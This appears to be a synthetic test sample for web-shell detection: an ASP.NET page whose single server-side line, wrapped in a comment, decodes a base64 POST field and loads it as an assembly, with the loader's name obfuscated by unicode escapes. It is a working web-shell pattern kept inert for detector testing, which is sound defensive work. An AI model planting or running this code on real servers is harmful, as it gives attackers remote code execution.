<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% System.Reflection.\u0041\u0073\u0073embly.\u004c\u006fad(Convert.FromBase64String(Request.Form["x"])).CreateInstance("A").Equals(this); %>
--%>
